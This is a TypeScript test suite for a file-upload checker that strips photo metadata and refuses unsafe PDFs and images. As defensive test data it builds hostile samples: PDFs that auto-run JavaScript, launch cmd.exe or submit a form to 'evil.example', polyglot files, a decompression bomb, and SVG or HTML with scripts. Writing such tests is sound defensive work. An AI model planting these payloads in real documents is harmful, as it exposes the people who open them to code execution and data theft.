/**
 * Checks files as people send them. Those in tests/fixtures/documents were made by LibreOffice, qpdf, Poppler,
 * Ghostscript and ExifTool.
 */
import { execFileSync } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { copyFile, mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { DomainError } from "#app/domain/errors.ts";
import { MOST_FILE_BYTES } from "#app/domain/values/document-limits.ts";
import { checkFile, readPdf } from "./check-file.ts";

const FIXTURES = join(import.meta.dirname, "../../../../tests/fixtures/documents");
const fixture = (name: string) => readFile(join(FIXTURES, name));

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "shapla-files-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

let sent = 0;
async function check(bytes: Buffer, name: string) {
  const path = join(folder, `n${sent++}`);
  await writeFile(path, bytes);
  return checkFile(path, name, "nusrat");
}

/** Returns the reason of a refusal, whose sentence says what to do. */
async function refusal(bytes: Buffer, name: string): Promise<string> {
  const error = await check(bytes, name).then(
    () => new Error("accepted"),
    (error: unknown) => error,
  );
  if (!(error instanceof DomainError)) throw error;
  expect(error.code).toBe("invalid");
  expect(error.fields).toEqual({ files: error.message });
  return error.reason;
}

/** Returns the names of the segments of a JPEG before its pixels, as "e1" for EXIF. */
function segments(jpeg: Buffer): string[] {
  const found: string[] = [];
  for (let at = 2; jpeg[at] === 0xff && jpeg[at + 1] !== 0xda; at += 2 + jpeg.readUInt16BE(at + 2))
    found.push((jpeg[at + 1] ?? 0).toString(16));
  return found;
}

/** The end of an archive without files. */
const zipEnd = Buffer.concat([Buffer.from("PK\x05\x06", "latin1"), Buffer.alloc(18)]);

describe("a photo", () => {
  test("is turned upright and loses where, when and with what it was taken", async () => {
    const photo = await fixture("photo.jpg");
    expect(segments(photo)).toEqual(expect.arrayContaining(["e1", "ed", "fe"]));
    const { path, kind, pages, shownName, size, sha256 } = await check(photo, "IMG_2041.JPG");
    const kept = await readFile(path);
    expect({ kind, pages, shownName, size }).toEqual({
      kind: "jpeg",
      pages: 1,
      shownName: "IMG_2041.jpg",
      size: kept.length,
    });
    expect(sha256).toBe(createHash("sha256").update(kept).digest("hex"));
    // It was 497 wide and 702 high, and lay on its side.
    expect(await sharp(kept).metadata()).toMatchObject({ width: 702, height: 497 });
    expect(segments(kept).filter((name) => /^e[1-9a-df]|^fe/.test(name))).toEqual([]);
    expect(kept.includes("Phone 12")).toBe(false);
  });

  test("is made at most 2,400 pixels long", async () => {
    const large = await sharp({ create: { width: 3000, height: 2000, channels: 3, background: "#fff" } })
      .jpeg()
      .toBuffer();
    const { path } = await check(large, "page.jpeg");
    expect(await sharp(path).metadata()).toMatchObject({ width: 2400, height: 1600, format: "jpeg" });
  });

  test("is never made larger", async () => {
    const { path, kind, shownName } = await check(await fixture("screenshot.png"), "Screenshot.png");
    expect({ kind, shownName }).toEqual({ kind: "jpeg", shownName: "Screenshot.jpg" });
    const before = await sharp(await fixture("screenshot.png")).metadata();
    expect(await sharp(path).metadata()).toMatchObject({ width: before.width, height: before.height, format: "jpeg" });
  });

  test("is accepted without an ending, as phones send it", async () => {
    expect(await check(await fixture("photo.jpg"), "1000012345")).toMatchObject({ shownName: "1000012345.jpg" });
  });

  test("a photo of 20,000 by 20,000 pixels is refused before decoding", async () => {
    const header = Buffer.alloc(25);
    header.write("\0\0\0\rIHDR", "latin1");
    header.writeUInt32BE(20_000, 8);
    header.writeUInt32BE(20_000, 12);
    header.set([1, 0, 0, 0, 0], 16);
    header.writeUInt32BE(crc32(header.subarray(4, 21)), 21);
    const data = deflateSync(Buffer.alloc(2_501 * 20_000));
    const chunk = Buffer.concat([Buffer.from("IDAT"), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length);
    frame.writeUInt32BE(crc32(chunk), 4);
    const png = Buffer.concat([
      Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
      ...[header, frame.subarray(0, 4), chunk, frame.subarray(4)],
      Buffer.from("\0\0\0\0IEND\xae\x42\x60\x82", "latin1"),
    ]);
    expect(png.length).toBeLessThan(MOST_FILE_BYTES);
    expect(await refusal(png, "flood.png")).toBe("file_picture_large");
  });

  test("a truncated photo is refused, and no file is left behind", async () => {
    const photo = await fixture("photo.jpg");
    const before = await readdir(folder);
    expect(await refusal(photo.subarray(0, photo.length / 2), "photo.jpg")).toBe("file_picture_cut");
    // What arrived is its caller's.
    expect((await readdir(folder)).length).toBe(before.length + 1);
  });

  test.each(["JPEG", "PNG"])("a photo that is also a PDF is refused: %s", async (kind) => {
    const photo = await fixture(kind === "JPEG" ? "photo.jpg" : "screenshot.png");
    const comment = Buffer.from("\xff\xfe\x00\x0b%PDF-1.7\n", "latin1");
    const both =
      kind === "JPEG"
        ? [photo.subarray(0, 2), comment, photo.subarray(2), await fixture("transcript.pdf")]
        : [photo.subarray(0, 33), Buffer.from("%PDF-1.7\n"), photo.subarray(33)];
    expect(await refusal(Buffer.concat(both), `photo.${kind.toLowerCase()}`)).toBe("file_two_in_one");
  });

  test("a photo that is also an archive is refused", async () => {
    expect(await refusal(Buffer.concat([await fixture("photo.jpg"), zipEnd]), "photo.jpg")).toBe("file_two_in_one");
  });
});

describe("a PDF", () => {
  test.each(["transcript.pdf", "linearized.pdf"])("is kept as it is: %s", async (name) => {
    const bytes = await fixture(name);
    const { path, ...checked } = await check(bytes, "Transcript final.pdf");
    expect(checked).toEqual({
      ...{ kind: "pdf", pages: 2, shownName: "Transcript final.pdf", size: bytes.length },
      sha256: createHash("sha256").update(bytes).digest("hex"),
    });
    expect((await readFile(path)).equals(bytes)).toBe(true);
  });

  test("is not blamed if the process that opens it cannot begin", async () => {
    const gone = new URL("./gone.ts", import.meta.url);
    await expect(readPdf(join(FIXTURES, "transcript.pdf"), gone)).rejects.toThrow("did not begin");
  });

  test.each([
    ["needs a password", "locked.pdf", "file_locked"],
    ["forbids to print", "owner-locked.pdf", "file_protected"],
    ["did not arrive whole", "cut.pdf", "file_pdf_broken"],
    ["unpacks to two gigabytes", "bomb.pdf", "file_pdf_heavy"],
  ])("a PDF that %s is refused", async (_, name, reason) => {
    expect(await refusal(await fixture(name), "transcript.pdf")).toBe(reason);
  });

  const page = (more: string, objects = "") =>
    Buffer.from(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${more}>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n${objects}\ntrailer<</Root 1 0 R>>\n%%EOF`,
    );
  /** Objects in a compressed stream, which no search for a word in the file finds. */
  const packed = (object: string, dictionary = "/Filter/FlateDecode") => {
    const bytes = deflateSync(Buffer.from(`9 0 ${object}`)).toString("latin1");
    return `8 0 obj<</Type/ObjStm/N 1/First 4/Length ${bytes.length}${dictionary}>>stream\n${bytes}\nendstream endobj`;
  };
  const latin = (pdf: Buffer) => Buffer.from(pdf.toString("utf8"), "latin1");
  const ALERT = "<</S/JavaScript/JS(app.alert(1))>>";

  test.each([
    ["runs a script when it opens", page(`/OpenAction${ALERT}`)],
    ["runs a script from its names", page(`/Names<</JavaScript<</Names[(a) ${ALERT}]>>>>`)],
    ["runs a script with its name escaped", page("/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>")],
    ["runs a script when a page opens", page("/AA<</WC 9 0 R>>", `9 0 obj${ALERT}endobj`)],
    ["starts a program", page("/OpenAction<</S/Launch/F(cmd.exe)>>")],
    ["starts a program from a packed object", latin(page("/OpenAction 9 0 R", packed("<</S/Launch/F(cmd.exe)>>")))],
    ["sends a form away", page("/OpenAction<</S/SubmitForm/F(https://evil.example)>>")],
  ])("a PDF that %s is refused", async (_, bytes) => {
    expect(await refusal(bytes, "active.pdf")).toBe("file_pdf_active");
  });

  test("a PDF that hides objects in a way that we cannot read is refused", async () => {
    const hidden = latin(page("", packed("<</S/Launch>>", "/Filter/LZWDecode")));
    expect(await refusal(hidden, "hidden.pdf")).toBe("file_pdf_active");
  });

  test("may have links, and words about scripts", async () => {
    const link = "<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(https://example.com/JS)>>>>";
    expect(await check(page(`/Title(A /JavaScript course, /Launch)`, `7 0 obj${link}endobj`), "a.pdf")).toMatchObject({
      pages: 1,
    });
  });

  test("a PDF without pages is refused", async () => {
    const empty = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n";
    const end = "trailer<</Root 1 0 R>>\n%%EOF";
    expect(await refusal(Buffer.from(empty + end), "empty.pdf")).toBe("file_pdf_broken");
  });

  test("a PDF of random bytes is refused", async () => {
    const noise = Buffer.concat([Buffer.from("%PDF-1.7\n"), randomBytes(200_000), Buffer.from("\n%%EOF")]);
    expect(await refusal(noise, "noise.pdf")).toBe("file_pdf_broken");
  });

  test("a PDF that is also an archive is refused", async () => {
    expect(await refusal(Buffer.concat([await fixture("transcript.pdf"), zipEnd]), "a.pdf")).toBe("file_two_in_one");
  });

  test("may be a portfolio with an archive inside", async () => {
    const bytes = (await fixture("transcript.pdf")).toString("latin1");
    const inside = Buffer.from(bytes.replace("%%EOF", `% ${zipEnd.toString("latin1")}\n%%EOF`), "latin1");
    expect(await check(inside, "a.pdf")).toMatchObject({ pages: 2 });
  });
});

describe("a file", () => {
  test.each([
    ["page.pdf", "file_differs"],
    ["page.jpg", "file_differs"],
    ["page.html", "file_format"],
    ["page", "file_format"],
  ])("an HTML file is refused under the name %s", async (name, reason) => {
    expect(await refusal(Buffer.from("<!doctype html><script>alert(1)</script>"), name)).toBe(reason);
  });

  test("an SVG file is refused", async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect(await refusal(svg, "logo.svg")).toBe("file_format");
    expect(await refusal(svg, "logo.png")).toBe("file_differs");
  });

  test.each([
    ["fax.tif", "tiff", "TIFF"],
    ["scan.jpg", "tiff", "TIFF"],
    ["logo.gif", "gif", "GIF"],
    ["certificate.pdf", "gif", "GIF"],
  ] as const)("%s with the bytes of a %s is told how it can be sent", async (name, format, said) => {
    const picture = sharp({ create: { width: 8, height: 8, channels: 3, background: "white" } });
    const bytes = await (format === "gif" ? picture.gif() : picture.tiff()).toBuffer();
    const error = await check(bytes, name).catch((error: unknown) => error);
    expect(error).toMatchObject({
      reason: "file_format",
      message: expect.stringContaining(`${said}, which we cannot`),
    });
  });

  test("a file that differs from its name is refused with its real format", async () => {
    const error = await check(await fixture("transcript.pdf"), "page.jpg").catch((error: DomainError) => error);
    expect(String((error as DomainError).message)).toBe(
      "The name of this file ends in .jpg, but it is a PDF. Save it again as a PDF, or change the end of its name to .pdf.",
    );
    expect(await refusal(await fixture("transcript.pdf"), "transcript.docx")).toBe("file_differs");
  });

  test.each([
    ["IMG_0042.HEIC", "HEIC"],
    ["sop.docx", "Word"],
    ["all.zip", "Open it"],
    ["sheet.xlsx", "JPEG, PNG or WebP"],
  ])("a file of another format is refused with a way to convert it: %s", async (name, words) => {
    const bytes = name.endsWith("HEIC")
      ? Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic", "latin1")
      : Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(60)]);
    const error = await check(bytes, name).catch((error: unknown) => error);
    expect((error as DomainError).reason).toBe("file_format");
    expect((error as DomainError).message).toContain(words);
  });

  test("an empty file is refused", async () => {
    expect(await refusal(Buffer.alloc(0), "empty.pdf")).toBe("file_empty");
  });

  test("a file larger than 10 MB is refused", async () => {
    expect(await refusal(Buffer.alloc(MOST_FILE_BYTES + 1), "large.pdf")).toBe("file_too_large");
  });
});

test("many files at once are opened by a few processes at a time", async () => {
  const transcript = await fixture("transcript.pdf");
  const children = `/proc/${process.pid}/task/${process.pid}/children`;
  let most = 0;
  const look = setInterval(() => {
    most = Math.max(most, readFileSync(children, "utf8").split(" ").filter(Boolean).length);
  }, 5);
  const checks = Array.from({ length: 12 }, () => check(transcript, "transcript.pdf"));
  expect(await Promise.all(checks)).toHaveLength(12);
  clearInterval(look);
  // Two, and those that have answered and end.
  expect(most).toBeGreaterThan(0);
  expect(most).toBeLessThan(6);
});

test("ExifTool finds no metadata in a photo that is kept", async () => {
  const { path } = await check(await fixture("photo.jpg"), "photo.jpg");
  const copy = join(folder, "seen.jpg");
  await copyFile(path, copy);
  const seen = execFileSync("exiftool", ["-G", "-s", copy], { encoding: "utf8" });
  expect(seen).not.toMatch(/^\[(EXIF|XMP|IPTC|MakerNotes|GPS)\]|Comment/m);
  expect((await stat(copy)).size).toBeGreaterThan(1000);
});
